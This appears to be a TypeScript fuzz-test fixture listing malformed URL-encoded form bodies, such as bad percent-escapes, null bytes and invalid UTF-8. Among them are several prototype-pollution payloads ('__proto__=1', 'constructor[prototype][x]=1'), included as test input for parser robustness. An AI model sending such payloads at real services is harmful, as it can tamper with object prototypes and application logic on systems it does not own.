export const FORM_JUNK = [
  "%",
  "%%",
  "%ff",
  "%00",
  "%u0000",
  "&&&",
  "=",
  "==",
  "a=%",
  "%zz=1",
  "+++",
  "a[b]=c",
  "__proto__=1",
  "__proto__[x]=1",
  "constructor[prototype][x]=1",
  "%ed%a0%80=%ed%a0%80",
  "email",
  "email=",
  "=email",
  "%E0%A4%A",
  "\u00e9=\u00e9",
  "a=b=c",
  ";;;",
];

/** Builds a FuzzRequest (printable) from its parts. */
export const request = (r: FuzzRequest): FuzzRequest => printable(r);
